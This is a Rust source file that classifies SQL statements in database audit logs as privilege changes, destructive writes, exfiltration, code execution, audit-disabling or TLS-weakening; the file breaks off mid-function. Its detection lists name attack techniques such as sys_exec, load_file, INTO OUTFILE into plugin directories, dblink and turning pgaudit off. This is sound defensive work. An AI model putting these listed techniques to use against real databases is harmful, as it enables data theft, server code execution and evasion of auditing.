//! `statement_class`: what kind of statement a query is, from its text alone.
//!
//! The audit plugins log every statement as `QUERY` (formats.md §1.2), so privilege changes,
//! destructive statements, file access, code execution and changes to the audit or TLS
//! settings can only be recognised from the text. Classification reads the normalised token
//! stream of [`tokens`] (comments, whitespace, case, quoting and the log's escaping taken
//! out), so `SELECT/**/*/**/FROM/**/t/**/INTO/**/OUTFILE` reads like `SELECT * FROM t INTO
//! OUTFILE`. It works on prefixes, because the plugin may truncate a statement at
//! `server_audit_query_log_limit`, and never allocates.
//!
//! The hot path (ordinary reads and writes) costs one tokenised first keyword and one SIMD
//! pass over the bytes looking for `(` and `f`: only a function call whose name is one of a
//! few server-file, remote-server or shell functions, or the word `OUTFILE`/`DUMPFILE`, sends
//! the statement through the token stream again to confirm it is code and not a literal.

pub mod tokens;

use tokens::{decode_literal, is_ident, Kind, Token, Tokens};

/// The classes of CONTRACT.md, in the order of precedence used when a statement fits several;
/// `code_execution`, `audit` and `tls` are additions (after `other`, so the original ones
/// keep their numbers).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum StatementClass {
    Privilege,
    Destructive,
    Exfiltration,
    Ddl,
    Write,
    Read,
    Other,
    /// Runs code on the server: UDFs from shared objects, untrusted languages, `COPY … FROM
    /// PROGRAM`, dangerous extensions, writes into the plugin directory.
    CodeExecution,
    /// Turns audit logging off or narrows it (`server_audit_*`, `pgaudit.log`,
    /// `log_connections`, `UNINSTALL PLUGIN server_audit`, `DROP EXTENSION pgaudit`).
    Audit,
    /// Weakens transport security (`require_secure_transport`, `ssl`,
    /// `ssl_min_protocol_version`, `ALTER USER … REQUIRE NONE`).
    Tls,
}

impl StatementClass {
    pub fn as_str(self) -> &'static str {
        match self {
            StatementClass::Privilege => "privilege",
            StatementClass::Destructive => "destructive",
            StatementClass::Exfiltration => "exfiltration",
            StatementClass::Ddl => "ddl",
            StatementClass::Write => "write",
            StatementClass::Read => "read",
            StatementClass::Other => "other",
            StatementClass::CodeExecution => "code_execution",
            StatementClass::Audit => "audit",
            StatementClass::Tls => "tls",
        }
    }
}

use StatementClass as C;

/// Classifies a statement. `escaped` text may contain `\n`-style escapes; they are treated as
/// whitespace, which is what they stand for.
pub fn classify(sql: &[u8]) -> StatementClass {
    // Fast path: a statement that starts with a keyword (the usual case).
    let (first, mut toks) = match sql.first() {
        Some(c) if c.is_ascii_alphabetic() && !matches!(sql.get(1), Some(b'\'' | b'\\')) => {
            let n = sql.iter().position(|&c| !is_ident(c)).unwrap_or(sql.len());
            let word = Token {
                kind: Kind::Word,
                text: &sql[..n],
            };
            (word, Tokens::new(&sql[n..]))
        }
        _ => {
            let mut toks = Tokens::new(sql);
            let first = loop {
                match toks.next() {
                    None => return C::Other,
                    Some(t) if t.is_punct(b';') => continue,
                    Some(t) => break t,
                }
            };
            (first, toks)
        }
    };
    let rest = toks.rest();
    if first.is_punct(b'(') {
        return scan_calls(rest).unwrap_or(C::Read);
    }
    if first.kind != Kind::Word {
        return C::Other;
    }
    // The first keyword, upper-cased (every keyword below has at most 9 letters), decides.
    let mut upper = [0u8; 9];
    let key: &[u8] = if first.text.len() <= upper.len() {
        for (u, c) in upper.iter_mut().zip(first.text) {
            *u = c.to_ascii_uppercase();
        }
        &upper[..first.text.len()]
    } else {
        b""
    };
    match key {
        b"SELECT" | b"SHOW" | b"DESCRIBE" | b"DESC" | b"EXPLAIN" | b"WITH" | b"TABLE"
        | b"VALUES" | b"HANDLER" => scan_calls(rest).unwrap_or(C::Read),
        b"INSERT" | b"REPLACE" | b"MERGE" | b"UPSERT" => scan_calls(rest).unwrap_or(C::Write),
        b"DELETE" | b"UPDATE" => scan_calls(rest).unwrap_or_else(|| filtered_write(toks)),
        b"GRANT" | b"REVOKE" => C::Privilege,
        b"TRUNCATE" => C::Destructive,
        b"SET" => set_statement(toks),
        b"CREATE" => create(toks),
        b"ALTER" => alter(toks),
        b"DROP" => drop(toks),
        b"RENAME" => match toks.next() {
            Some(t) if t.is("USER") => C::Privilege,
            _ => C::Ddl,
        },
        b"LOAD" => load(toks),
        b"COPY" => copy(toks),
        b"INSTALL" => install(toks, false),
        b"UNINSTALL" => install(toks, true),
        _ => scan_calls(rest).unwrap_or(C::Other),
    }
}

// ---------------------------------------------------------------------------------------
// The hot path: function calls and OUTFILE/DUMPFILE anywhere in the statement.

/// Function names (lower case) that read or write server files or reach another server,
/// run code, or change settings; `None` when `name` is none of them. `set_config` needs its
/// arguments to decide.
#[inline]
fn call_class(name: &[u8]) -> Option<StatementClass> {
    // Every name below has 6 to 32 bytes (the longest, `lib_mysqludf_sys_info` and dblink's
    // `dblink_build_sql_insert`, 21 and 23) and starts with one of six pairs of letters:
    // most calls and tables (`count(`, `last_insert_id(`, `INSERT INTO payments (`) stop
    // here. (`| 0x20` maps an upper-case letter onto its lower case, and no other byte onto
    // a lower-case letter.)
    if name.len() > 32
        || name.len() < 6
        || !matches!(
            [name[0] | 0x20, name[1] | 0x20],
            [b'l', b'o' | b'i'] | [b'p', b'g'] | [b's', b'y' | b'e'] | [b'd', b'b']
        )
    {
        return None;
    }
    call_class_of(name)
}

fn call_class_of(name: &[u8]) -> Option<StatementClass> {
    let mut lower = [0u8; 32];
    for (l, c) in lower.iter_mut().zip(name) {
        *l = c.to_ascii_lowercase();
    }
    let n = &lower[..name.len()];
    match n {
        b"load_file"
        | b"pg_read_file"
        | b"pg_read_binary_file"
        | b"lo_import"
        | b"lo_export"
        | b"pg_file_write"
        | b"lo_from_bytea" => Some(C::Exfiltration),
        b"sys_exec" | b"sys_eval" | b"lib_mysqludf_sys_info" => Some(C::CodeExecution),
        b"set_config" => Some(C::Audit),
        _ if n.starts_with(b"dblink") => Some(C::Exfiltration),
        _ => None,
    }
}

/// The class a statement's function calls and `INTO OUTFILE`/`DUMPFILE` give it, if any.
/// A byte prefilter first (one pass over `(` and `f`); a hit is confirmed where it stands
/// (the name or `INTO` before it, and that it is code, not a literal or a comment), and
/// only a hit that cannot be confirmed there goes through the whole token stream.
#[inline]
fn scan_calls(rest: &[u8]) -> Option<StatementClass> {
    let mut found = None;
    let mut full = false;
    for_each_paren_or_f(rest, |i| {
        let hit = if rest[i] == b'(' {
            call_at(rest, i)
        } else {
            outfile_at(rest, i)
        };
        match hit {
            // The token stream decides.
            Some(C::Audit) => full = true,
            Some(c) if found != Some(C::CodeExecution) => found = Some(c),
            _ => {}
        }
        found == Some(C::CodeExecution)
    });
    if found == Some(C::CodeExecution) {
        return found;
    }
    if full {
        if let Some(c) = scan_tokens(Tokens::new(rest)) {
            return Some(c);
        }
    }
    found
}

/// The class the call whose `(` is at `i` gives the statement, if any; `Some(Audit)` when
/// the token stream must decide. Inlined: most `(` are rejected in [`call_before`]'s first
/// lines, without a call.
#[inline]
fn call_at(s: &[u8], i: usize) -> Option<StatementClass> {
    let (start, c) = call_before(s, i)?;
    confirm_call(s, start, c)
}

#[inline(never)]
fn confirm_call(s: &[u8], start: usize, c: StatementClass) -> Option<StatementClass> {
    match c {
        C::Audit => Some(C::Audit),
        c => tokens::at_code_level(s, start).then_some(c),
    }
}

/// The class an `INTO OUTFILE|DUMPFILE` whose `FILE` starts at the `f` at `i` gives the
/// statement, if any; `Some(Audit)` when the token stream must decide. Inlined: most `f`
/// are rejected by one comparison.
#[inline]
fn outfile_at(s: &[u8], i: usize) -> Option<StatementClass> {
    let word = s.get(i..i + 4)?;
    // Four bytes at once, case folded (`| 0x20` maps no other byte onto a lower-case letter).
    if u32::from_le_bytes(word.try_into().unwrap()) | 0x2020_2020 != u32::from_le_bytes(*b"file") {
        return None;
    }
    outfile_class(s, i)
}

#[inline(never)]
fn outfile_class(s: &[u8], i: usize) -> Option<StatementClass> {
    let start = file_word_at(s, i)?;
    match into_before(s, start) {
        Some(into) if tokens::at_code_level(s, into) => {
            let mut more = Tokens::new(&s[i + 4..]);
            let mut buf = [0u8; 128];
            let n = match more.next() {
                Some(file) => decode_literal(file, &mut more, &mut buf),
                None => 0,
            };
            Some(if is_plugin_path(&buf[..n]) {
                C::CodeExecution
            } else {
                C::Exfiltration
            })
        }
        Some(_) => None,
        None => Some(C::Audit),
    }
}

/// Whitespace (also escaped) and block comments before `end`: where the text before them
/// ends; `None` when a line comment may be in the way (the token stream decides then).
fn skip_back(s: &[u8], mut end: usize) -> Option<usize> {
    loop {
        while end > 0 && s[end - 1].is_ascii_whitespace() {
            if s[end - 1] == b'\n' && may_end_line_comment(s, end - 1) {
                return None;
            }
            end -= 1;
        }
        if end >= 2 && s[end - 2] == b'\\' && matches!(s[end - 1], b'n' | b'r' | b't') {
            if s[end - 1] == b'n' && may_end_line_comment(s, end - 2) {
                return None;
            }
            end -= 2;
        } else if end >= 2 && &s[end - 2..end] == b"*/" {
            end = memchr::memmem::rfind(&s[..end - 2], b"/*")?;
            // An executable comment is code: the token stream decides.
            if matches!(s.get(end + 2), Some(b'!' | b'M' | b'm')) {
                return None;
            }
        } else {
            return Some(end);
        }
    }
}

/// Whether the newline (real or escaped) at `nl` may end a line comment: the line before it
/// holds `--` or `#` (perhaps inside a literal: the token stream decides then). Formatted
/// statements break lines before `(` without comments, and need no token stream.
fn may_end_line_comment(s: &[u8], nl: usize) -> bool {
    // Most statements hold no `#` and no `--` at all: two quick searches say so.
    let before = &s[..nl];
    if memchr::memchr(b'#', before).is_none() && tokens::find_pair(before, b'-', b'-').is_none() {
        return false;
    }
    // The line runs back to the newline (real or escaped) before it.
    let mut j = nl;
    while j > 0 {
        match s[j - 1] {
            b'\n' => return false,
            b'n' if j >= 2 && s[j - 2] == b'\\' => return false,
            b'#' => return true,
            b'-' if j >= 2 && s[j - 2] == b'-' => return true,
            _ => j -= 1,
        }
    }
    false
}

/// The function name before the `(` at `i` (whitespace and comments skipped), when it is
/// one of [`call_class`]'s: where it starts and its class. A quoted name, or one behind a
/// line comment, is [`StatementClass::Audit`], which sends the statement through the token
/// stream.
#[inline]
fn call_before(s: &[u8], i: usize) -> Option<(usize, StatementClass)> {
    // Fast path, most `(` of ordinary statements (`COUNT(`, `IN (`, `VALUES (`): a bare name
    // behind plain spaces, where no comment, newline or quote can stand between.
    let mut end = i;
    while end > 0 && s[end - 1] == b' ' {
        end -= 1;
    }
    let start = run_start(s, end);
    if end - start >= 6 {
        let start = ident_start(s, start, end);
        return call_class(&s[start..end]).map(|c| (start, c));
    }
    if start < end && !(start > 0 && s[start - 1] == b'\\') {
        // A name too short for `call_class` (not the `n` of an escaped newline).
        return None;
    }
    // No name at all behind punctuation (`, (`, `((`, `= (`).
    if end == 0
        || !(s[end - 1].is_ascii_whitespace()
            || is_ident(s[end - 1])
            || matches!(s[end - 1], b'/' | b'"' | b'`'))
    {
        return None;
    }
    call_behind_separators(s, i)
}

/// [`call_before`] when whitespace other than spaces, a comment or a quote may stand
/// between the name and the `(`.
#[inline(never)]
fn call_behind_separators(s: &[u8], i: usize) -> Option<(usize, StatementClass)> {
    let Some(end) = skip_back(s, i) else {
        return Some((0, C::Audit));
    };
    if end > 0 && matches!(s[end - 1], b'"' | b'`') {
        // A quoted name: only one of the functions (`"pg_read_file"(…)`) needs the token
        // stream; a quoted table before its column list (`INSERT INTO "t" (…)`) does not.
        let q = s[end - 1];
        let name = match memchr::memrchr(q, &s[..end - 1]) {
            Some(open) => &s[open + 1..end - 1],
            None => &s[..end - 1],
        };
        let name = name.strip_suffix(b"\\").unwrap_or(name);
        return call_class(name).map(|_| (0, C::Audit));
    }
    let start = ident_start(s, run_start(s, end), end);
    call_class(&s[start..end]).map(|c| (start, c))
}

/// Where the run of name bytes that ends at `end` starts. The 16 bytes before `end` are
/// classified at once: a `(` follows a name in most statements, and stepping back over the
/// name byte by byte was most of the cost of looking at a `(`.
#[inline]
fn run_start(s: &[u8], end: usize) -> usize {
    if end >= 16 {
        let other = !ident_mask16(s, end - 16) & 0xffff;
        if other != 0 {
            // The name bytes are the top bits above the highest other byte.
            return end - (other.leading_zeros() - 16) as usize;
        }
    }
    s[..end]
        .iter()
        .rposition(|&c| !is_ident(c))
        .map_or(0, |p| p + 1)
}

/// Bit `i` set where `s[at + i]` is a name byte ([`is_ident`]), `at + 16 <= s.len()`.
#[inline]
fn ident_mask16(s: &[u8], at: usize) -> u32 {
    let block = &s[at..at + 16];
    #[cfg(target_arch = "x86_64")]
    {
        use std::arch::x86_64::*;
        // SAFETY: SSE2 is part of x86_64; the load reads the 16 bytes of `block`. The
        // compares are signed, so bytes from 0x80 (name bytes) are the negative ones.
        unsafe {
            let v = _mm_loadu_si128(block.as_ptr().cast());
            let between = |v: __m128i, lo: u8, hi: u8| {
                _mm_and_si128(
                    _mm_cmpgt_epi8(v, _mm_set1_epi8(lo as i8 - 1)),
                    _mm_cmplt_epi8(v, _mm_set1_epi8(hi as i8 + 1)),
                )
            };
            // Setting bit 5 maps an upper-case letter onto its lower case, and no other
            // byte onto a lower-case letter.
            let letter = between(_mm_or_si128(v, _mm_set1_epi8(0x20)), b'a', b'z');
            let digit = between(v, b'0', b'9');
            let other = _mm_or_si128(
                _mm_or_si128(
                    _mm_cmpeq_epi8(v, _mm_set1_epi8(b'_' as i8)),
                    _mm_cmpeq_epi8(v, _mm_set1_epi8(b'$' as i8)),
                ),
                _mm_cmplt_epi8(v, _mm_setzero_si128()),
            );
            _mm_movemask_epi8(_mm_or_si128(_mm_or_si128(letter, digit), other)) as u32
        }
    }
    #[cfg(not(target_arch = "x86_64"))]
    block
        .iter()
        .enumerate()
        .fold(0, |m, (i, &c)| m | (u32::from(is_ident(c)) << i))
}

/// Where the name whose run of name bytes is `s[run..end]` starts. The log's escaped
/// whitespace (`\n`, `\r`, `\t`) before it is not part of it.
fn ident_start(s: &[u8], run: usize, end: usize) -> usize {
    let start = run;
    if start < end && start > 0 && s[start - 1] == b'\\' && matches!(s[start], b'n' | b'r' | b't') {
        start + 1
    } else {
        start
    }
}

/// `OUTFILE` or `DUMPFILE` whose `FILE` starts at the `f` at `i`: where the word starts.
fn file_word_at(s: &[u8], i: usize) -> Option<usize> {
    if s.len() < i + 4
        || !s[i..i + 4].eq_ignore_ascii_case(b"FILE")
        || s.get(i + 4).is_some_and(|&c| is_ident(c))
    {
        return None;
    }
    let start = if i >= 4 && s[i - 4..i].eq_ignore_ascii_case(b"DUMP") {
        i - 4
    } else if i >= 3 && s[i - 3..i].eq_ignore_ascii_case(b"OUT") {
        i - 3
    } else {
        return None;
    };
    let escaped_space =
        start >= 2 && s[start - 2] == b'\\' && matches!(s[start - 1], b'n' | b'r' | b't');
    (start == 0 || !is_ident(s[start - 1]) || escaped_space).then_some(start)
}

/// Where the `INTO` before the word at `start` begins: `Some(usize::MAX)` (no match) when
/// another word is there, `None` when the token stream must decide.
fn into_before(s: &[u8], start: usize) -> Option<usize> {
    let end = skip_back(s, start)?;
    if end >= 4
        && s[end - 4..end].eq_ignore_ascii_case(b"INTO")
        && ident_start(s, run_start(s, end), end) == end - 4
    {
        Some(end - 4)
    } else {
        Some(usize::MAX)
    }
}

/// The token-level check behind [`scan_calls`]: `INTO OUTFILE|DUMPFILE <file>` (code
/// execution when the file is a shared object or in a plugin directory) and calls of
/// [`call_class`]'s functions.
fn scan_tokens(mut toks: Tokens<'_>) -> Option<StatementClass> {
    let mut found = None;
    let mut prev: Option<Token<'_>> = None;
    while let Some(t) = toks.next() {
        if t.kind == Kind::Word {
            if (t.is("OUTFILE") || t.is("DUMPFILE")) && prev.is_some_and(|p| p.is("INTO")) {
                let mut buf = [0u8; 256];
                let mut more = toks.clone();
                let n = match more.next() {
                    Some(file) => decode_literal(file, &mut more, &mut buf),
                    None => 0,
                };
                if is_plugin_path(&buf[..n]) {
                    return Some(C::CodeExecution);
                }
                found = Some(C::Exfiltration);
            } else if let Some(c) = call_class(t.text) {
                let mut more = toks.clone();
                if more.next().is_some_and(|p| p.is_punct(b'(')) {
                    match c {
                        C::CodeExecution => return Some(c),
                        C::Audit => {
                            // set_config('pgaudit.log', 'none', false)
                            let (name, value) = (more.next(), more.nth(1));
                            if let (Some(name), Some(value)) = (name, value) {
                                if let Some(c) = dotted_setting(name.text, value) {
                                    return Some(c);
                                }
                            }
                        }
                        _ => found = found.or(Some(c)),
                    }
                }
            }
        }
        prev = Some(t);
    }
    found
}

/// A file a server loads code from: a shared object, or anything in a plugin directory.
fn is_plugin_path(path: &[u8]) -> bool {
    let lower_ends = |suffix: &[u8]| {
        path.len() >= suffix.len() && path[path.len() - suffix.len()..].eq_ignore_ascii_case(suffix)
    };
    lower_ends(b".so")
        || lower_ends(b".dll")
        || path.windows(7).any(|w| w.eq_ignore_ascii_case(b"/plugin"))
}

/// Calls `f` with the position of every `(`, `F` and `f` in `s`, in order, until it returns
/// true. One pass, 16 bytes at a time.
#[inline]
fn for_each_paren_or_f(s: &[u8], mut f: impl FnMut(usize) -> bool) {
    if s.len() < 16 {
        for (i, &b) in s.iter().enumerate() {
            if matches!(b | 0x20, b'f' | b'(') && (b == b'(' || b | 0x20 == b'f') && f(i) {
                return;
            }
        }
        return;
    }
    let mut block = |at: usize, base: usize| {
        let mut hits = paren_or_f_mask16(s, at) >> (base - at);
        while hits != 0 {
            if f(base + hits.trailing_zeros() as usize) {
                return true;
            }
            hits &= hits - 1;
        }
        false
    };
    let mut base = 0;
    while base + 16 <= s.len() {
        if block(base, base) {
            return;
        }
        base += 16;
    }
    if base < s.len() {
        block(s.len() - 16, base);
    }
}

/// Bit `i` set where `s[at + i]` is `(`, `F` or `f` (`at + 16 <= s.len()`).
#[inline]
fn paren_or_f_mask16(s: &[u8], at: usize) -> u32 {
    let block = &s[at..at + 16];
    #[cfg(target_arch = "x86_64")]
    {
        use std::arch::x86_64::{
            _mm_cmpeq_epi8, _mm_loadu_si128, _mm_movemask_epi8, _mm_or_si128, _mm_set1_epi8,
        };
        // SAFETY: SSE2 is part of x86_64; the load reads the 16 bytes of `block`.
        unsafe {
            let raw = _mm_loadu_si128(block.as_ptr().cast());
            let v = _mm_or_si128(raw, _mm_set1_epi8(0x20));
            let hits = _mm_or_si128(
                _mm_cmpeq_epi8(v, _mm_set1_epi8(b'f' as i8)),
                _mm_cmpeq_epi8(raw, _mm_set1_epi8(b'(' as i8)),
            );
            _mm_movemask_epi8(hits) as u32
        }
    }
    #[cfg(not(target_arch = "x86_64"))]
    block.iter().enumerate().fold(0, |m, (i, &c)| {
        m | (u32::from(c | 0x20 == b'f' || c == b'(') << i)
    })
}

// ---------------------------------------------------------------------------------------
// DELETE and UPDATE: a filter that keeps nothing out.

/// `DELETE`/`UPDATE`: destructive without a `WHERE`, or with one that is always true
/// (`WHERE 1`, `WHERE 1=1`, `WHERE true`, `WHERE 'a'='a'`, `… OR 1=1`); otherwise a write.
/// The first `WHERE` in the text that is code (not in a literal or a comment) is the
/// clause; only the bytes that can open a literal or a comment are looked at before it.
fn filtered_write(toks: Tokens<'_>) -> StatementClass {
    let rest = toks.rest();
    let mut from = 0;
    while let Some(at) = find_word_ci(&rest[from..], b"WHERE").map(|i| from + i) {
        if tokens::at_code_level(rest, at) {
            let mut tail = Tokens::new(&rest[at + 5..]);
            return if tautological(&mut tail) {
                C::Destructive
            } else {
                C::Write
            };
        }
        from = at + 5;
    }
    C::Destructive
}

/// The first whole-word, case-insensitive `word` (upper case) in `hay`.
fn find_word_ci(hay: &[u8], word: &[u8]) -> Option<usize> {
    let first = word[0];
    memchr::memchr2_iter(first, first.to_ascii_lowercase(), hay).find(|&i| {
        i + word.len() <= hay.len()
            && hay[i..i + word.len()].eq_ignore_ascii_case(word)
            && word_starts(hay, i)
            && hay.get(i + word.len()).is_none_or(|&c| !is_ident(c))
    })
}

/// Whether a word may start at `i`: no name byte before it (an escaped `\n` is whitespace).
fn word_starts(hay: &[u8], i: usize) -> bool {
    i == 0
        || !is_ident(hay[i - 1])
        || i >= 2 && hay[i - 2] == b'\\' && matches!(hay[i - 1], b'n' | b'r' | b't')
}

/// Whether `hay` holds a whole-word `OR` or `XOR` (any case) or a `|`: one pass over it.
fn may_hold_or(hay: &[u8]) -> bool {
    memchr::memchr3_iter(b'O', b'o', b'|', hay).any(|i| {
        hay[i] == b'|'
            || hay.get(i + 1).is_some_and(|&c| c | 0x20 == b'r')
                && hay.get(i + 2).is_none_or(|&c| !is_ident(c))
                && (word_starts(hay, i)
                    || i >= 1 && hay[i - 1] | 0x20 == b'x' && word_starts(hay, i - 1))
    })
}

/// Whether the condition after `WHERE` is always true: some `OR` branch whose `AND` terms are
/// all constant-true comparisons of literals. Parentheses are ignored (an approximation that
/// only matters for conditions that already hold a constant-true term).
fn tautological(toks: &mut Tokens<'_>) -> bool {
    // Fast path: a first term that starts with a column cannot be constant, and without an
    // `OR` after it nothing else can make the whole condition true.
    let mut peek = toks.clone();
    if let Some(first) = peek.next() {
        let rest = peek.rest();
        if first.kind == Kind::Word
            && !(first.is("TRUE") || first.is("FALSE") || first.is("NOT"))
            && !may_hold_or(rest)
        {
            return false;
        }
    }
    let mut term: [Option<Token<'_>>; 4] = [None; 4];
    let mut len = 0usize;
    let mut group_true = true;
    loop {
        let t = toks.next();
        let end = match t {
            None => true,
            Some(t) => {
                t.is_punct(b';')
                    || t.is("ORDER")
                    || t.is("LIMIT")
                    || t.is("RETURNING")
                    || t.is("GROUP")
                    || t.is("UNION")
            }
        };
        let or = t.is_some_and(|t| t.is("OR") || t.is("XOR") || t.is_punct(b'|'));
        let and = t.is_some_and(|t| t.is("AND") || t.is_punct(b'&'));
        if end || or || and {
            if t.is_some_and(|t| t.is_punct(b'|') || t.is_punct(b'&')) && len == 0 {
                // The second byte of `||` / `&&`.
                continue;
            }
            group_true &= len <= term.len() && constant_true(&term[..len.min(term.len())]);
            if (end || or) && group_true {
                return true;
            }
            if end {
                return false;
            }
            if or {
                group_true = true;
            }
            len = 0;
            continue;
        }
        let t = t.expect("not the end");
        if t.is_punct(b'(') || t.is_punct(b')') {
            continue;
        }
        if len < term.len() {
            term[len] = Some(t);
        }
        len += 1;
    }
}

/// A term that is true whatever the row: a non-zero number, `TRUE`, or a comparison of two
/// literals that holds.
fn constant_true(term: &[Option<Token<'_>>]) -> bool {
    let lit = |t: &Token<'_>| matches!(t.kind, Kind::Num | Kind::Str | Kind::Hex) || t.is("TRUE");
    let num = |t: &Token<'_>| -> Option<f64> {
        if t.kind == Kind::Num {
            std::str::from_utf8(t.text).ok()?.parse().ok()
        } else if t.is("TRUE") {
            Some(1.0)
        } else if t.is("FALSE") {
            Some(0.0)
        } else {
            None
        }
    };
    match term {
        [Some(a)] => num(a).is_some_and(|v| v != 0.0),
        [Some(a), Some(op), Some(b)] if lit(a) && lit(b) && op.kind == Kind::Punct => {
            compare(a, b, op.text, b"", num)
        }
        [Some(a), Some(op1), Some(op2), Some(b)]
            if lit(a) && lit(b) && op1.kind == Kind::Punct && op2.kind == Kind::Punct =>
        {
            compare(a, b, op1.text, op2.text, num)
        }
        [Some(a), Some(op), Some(b)] if op.is("LIKE") && a.kind == Kind::Str => {
            b.kind == Kind::Str && (a.text == b.text || b.text == b"%")
        }
        _ => false,
    }
}

fn compare(
    a: &Token<'_>,
    b: &Token<'_>,
    op1: &[u8],
    op2: &[u8],
    num: impl Fn(&Token<'_>) -> Option<f64>,
) -> bool {
    let ord = match (num(a), num(b)) {
        (Some(x), Some(y)) => x.partial_cmp(&y),
        _ if a.kind == b.kind => Some(a.text.cmp(b.text)),
        _ => None,
    };
    let Some(ord) = ord else { return false };
    use std::cmp::Ordering::*;
    match (op1, op2) {
        (b"=", b"") | (b"=", b"=") | (b"<", b"=>") => ord == Equal,
        (b"<", b">") | (b"!", b"=") => ord != Equal,
        (b"<", b"") => ord == Less,
        (b">", b"") => ord == Greater,
        (b"<", b"=") => ord != Greater,
        (b">", b"=") => ord != Less,
        _ => false,
    }
}

// ---------------------------------------------------------------------------------------
// Settings: SET, ALTER SYSTEM, ALTER DATABASE/ROLE … SET, set_config().

/// A falsy setting value: `OFF`, `0`, `FALSE`, `NO`, `NONE`, quoted or not.
fn is_off(v: &Token<'_>) -> bool {
    ["OFF", "0", "FALSE", "NO", "NONE", ""]
        .iter()
        .any(|s| v.value_is(s))
}

/// The class an assignment gives a statement: `audit` for one that turns audit logging off
/// or narrows it, `tls` for one that weakens transport security. `qualifier` is the part
/// before a dot (`pgaudit` of `pgaudit.log`, `global` of `@@global.x`).
fn setting_class(qualifier: &[u8], name: &[u8], value: &Token<'_>) -> Option<StatementClass> {
    let n = |s: &str| name.eq_ignore_ascii_case(s.as_bytes());
    if qualifier.eq_ignore_ascii_case(b"pgaudit") {
        if n("log") || n("log_catalog") || n("log_relation") || n("role") {
            // Anything but a plain `all` narrows what pgaudit writes.
            let all = value.value_is("all");
            return (!all || n("role")).then_some(C::Audit);
        }
        return None;
    }
    if n("server_audit_logging")
        || n("log_connections")
        || n("log_disconnections")
        || n("logging_collector")
    {
        return is_off(value).then_some(C::Audit);
    }
    if n("server_audit_events") {
        // Empty logs every event; a list without both CONNECT and QUERY narrows the audit.
        let has = |e: &[u8]| {
            value
                .text
                .split(|&c| c == b',' || c.is_ascii_whitespace())
                .any(|v| v.eq_ignore_ascii_case(e))
        };
        let full = value.text.is_empty() || has(b"CONNECT") && has(b"QUERY");
        return (!full).then_some(C::Audit);
    }
    if n("server_audit_excl_users") || n("server_audit_incl_users") {
        // An empty list excludes no one (and an empty include list includes everyone).
        return (!value.text.is_empty()).then_some(C::Audit);
    }
    if n("log_statement") {
        return (!(value.value_is("all") || value.value_is("mod"))).then_some(C::Audit);
    }
    if n("require_secure_transport") || n("ssl") {
        return is_off(value).then_some(C::Tls);
    }
    if n("ssl_min_protocol_version") || n("tls_version") || n("admin_tls_version") {
        let weak = value
            .text
            .split(|&c| c == b',' || c.is_ascii_whitespace())
            .any(|v| v.eq_ignore_ascii_case(b"TLSv1") || v.eq_ignore_ascii_case(b"TLSv1.1"));
        return weak.then_some(C::Tls);
    }
    None
}

/// `set_config('pgaudit.log', …)`: the name as one literal.
fn dotted_setting(name: &[u8], value: Token<'_>) -> Option<StatementClass> {
    match name.iter().position(|&c| c == b'.') {
        Some(dot) => setting_class(&name[..dot], &name[dot + 1..], &value),
        None => setting_class(b"", name, &value),
    }
}

/// The assignments `[qualifier.]name = value` / `name TO value` in the rest of a statement:
/// the first that gives a class.
fn assignments(toks: Tokens<'_>) -> Option<StatementClass> {
    let mut qualifier: &[u8] = b"";
    let mut name: &[u8] = b"";
    let mut after_dot = false;
    let mut toks = toks.peekable();
    while let Some(t) = toks.next() {
        if t.kind == Kind::Word && !t.is("TO") {
            if after_dot {
                qualifier = name;
            } else {
                qualifier = b"";
            }
            name = t.text;
            after_dot = false;
            continue;
        }
        if t.is_punct(b'.') {
            after_dot = true;
            continue;
        }
        after_dot = false;
        let assign = t.is("TO")
            || t.is_punct(b'=')
            || (t.is_punct(b':') && toks.peek().is_some_and(|n| n.is_punct(b'=')));
        if assign {
            if t.is_punct(b':') {
                toks.next();
            }
            let value = toks.next()?;
            if let Some(c) = setting_class(qualifier, name, &value) {
                return Some(c);
            }
            name = b"";
        }
    }
    None
}

/// `SET`: passwords and default roles are privilege changes; audit and TLS settings are
/// checked; everything else is `other`.
fn set_statement(toks: Tokens<'_>) -> StatementClass {
    let mut w = toks.clone();
    match w.next() {
        Some(t) if t.is("PASSWORD") => return C::Privilege,
        Some(t) if t.is("DEFAULT") && w.next().is_some_and(|t| t.is("ROLE")) => {
            return C::Privilege
        }
        _ => {}
    }
    assignments(toks).unwrap_or(C::Other)
}

// ---------------------------------------------------------------------------------------
// DDL.

/// Untrusted procedural languages and the ones that load machine code.
fn is_untrusted_language(lang: &Token<'_>) -> bool {
    let t = lang.text;
    let lower = |s: &[u8]| t.eq_ignore_ascii_case(s);
    lower(b"c")
        || lower(b"internal")
        || lower(b"plsh")
        || (t.len() > 3 && t[..2].eq_ignore_ascii_case(b"pl") && (t[t.len() - 1] | 0x20) == b'u')
}

/// Extensions that run code or reach files (code execution) or other servers (exfiltration).
fn extension_class(name: &Token<'_>) -> Option<StatementClass> {
    let n = |s: &str| name.text.eq_ignore_ascii_case(s.as_bytes());
    if n("adminpack")
        || n("dblink")
        || n("plsh")
        || n("pg_execute_server_program")
        || is_untrusted_language(name) && !n("c")
    {
        Some(C::CodeExecution)
    } else if n("postgres_fdw")
        || n("mysql_fdw")
        || n("oracle_fdw")
        || n("tds_fdw")
        || n("file_fdw")
        || n("log_fdw")
    {
        Some(C::Exfiltration)
    } else {
        None
    }
}

/// `ENGINE = FEDERATED|CONNECT` in a table definition: the table's rows live on another
/// server (or in a file).
fn remote_engine(toks: Tokens<'_>) -> bool {
    let mut toks = toks;
    while let Some(t) = toks.next() {
        if t.is("ENGINE") {
            let mut v = toks.next();
            if v.is_some_and(|v| v.is_punct(b'=')) {
                v = toks.next();
            }
            return v.is_some_and(|v| v.is("FEDERATED") || v.is("CONNECT"));
        }
    }
    false
}

/// The next word after the noise words `OR REPLACE`, `IF [NOT] EXISTS`, `DEFINER = x`,
/// `AGGREGATE`, `TRUSTED`, `PROCEDURAL`, `TEMPORARY`, `UNLOGGED`, `GLOBAL`, `LOCAL`.
fn object_word<'a>(toks: &mut Tokens<'a>) -> Option<Token<'a>> {
    loop {
        let t = toks.next()?;
        if t.is("OR") {
            toks.next(); // REPLACE
        } else if t.is("IF") {
            let n = toks.next()?;
            if n.is("NOT") {
                toks.next();
            }
        } else if t.is("DEFINER") {
            // DEFINER = user@host: skip to the next keyword-looking word.
            toks.next(); // =
            toks.next(); // user
            let mut peek = toks.clone();
            if peek.next().is_some_and(|p| p.is_punct(b'@')) {
                toks.next();
                toks.next();
            }
        } else if [
            "AGGREGATE",
            "TRUSTED",
            "PROCEDURAL",
            "UNLOGGED",
